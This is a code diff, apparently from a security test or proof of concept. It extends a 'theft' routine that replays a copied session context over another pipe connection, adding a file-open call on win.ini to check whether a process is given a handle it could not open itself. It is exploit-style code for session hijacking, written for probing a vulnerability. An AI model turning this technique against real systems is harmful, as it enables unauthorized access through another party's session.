@@ -4,6 +4,7 @@
 #include "raw.h"
 
 #include <string.h>
+#include <windows.h>
 
 /* A call in the stolen session on the thief's connection; the status that was returned, or
  * UINT32_MAX when the runtime refused it. */
@@ -51,6 +52,26 @@ static uint32_t commit(void *pipe, const struct theft *theft)
     return status;
 }
 
+void theft_put_open(struct packet *packet)
+{
+    put_text(packet, L"C:\\windows\\win.ini");
+    put_u32(packet, GENERIC_READ);
+    put_u32(packet, FILE_SHARE_READ);
+    put_u32(packet, OPEN_EXISTING);
+    put_u32(packet, 0);
+}
+
+/* The handle would be the owner's process's. */
+static uint32_t open_into(void *pipe, const struct theft *theft)
+{
+    struct packet stub = packet_new();
+    put_raw(&stub, theft->context, CONTEXT_SIZE);
+    theft_put_open(&stub);
+    uint32_t status = call(pipe, OPNUM_FILE_OPEN, &stub);
+    packet_free(&stub);
+    return status;
+}
+
 bool theft_try(const struct theft *theft)
 {
     void *pipe = pdu_open(theft->association, NULL);
@@ -59,9 +80,12 @@ bool theft_try(const struct theft *theft)
     uint32_t listed = list_on(pipe, theft);
     uint32_t written = write_on(pipe, theft);
     uint32_t committed = commit(pipe, theft);
+    uint32_t given = open_into(pipe, theft);
     pdu_disconnect(pipe);
     say("listing on: %u, writing on: %u, committing: %u", listed, written, committed);
-    return expect(listed && written && committed, "what one opened, another could use");
+    say("giving a handle: %u", given);
+    return expect(listed && written && committed, "what one opened, another could use") &
+           expect(given != 0, "a process was given a handle by who could not open it");
 }
 
 void theft_format(const struct theft *theft, wchar_t text[THEFT_TEXT])
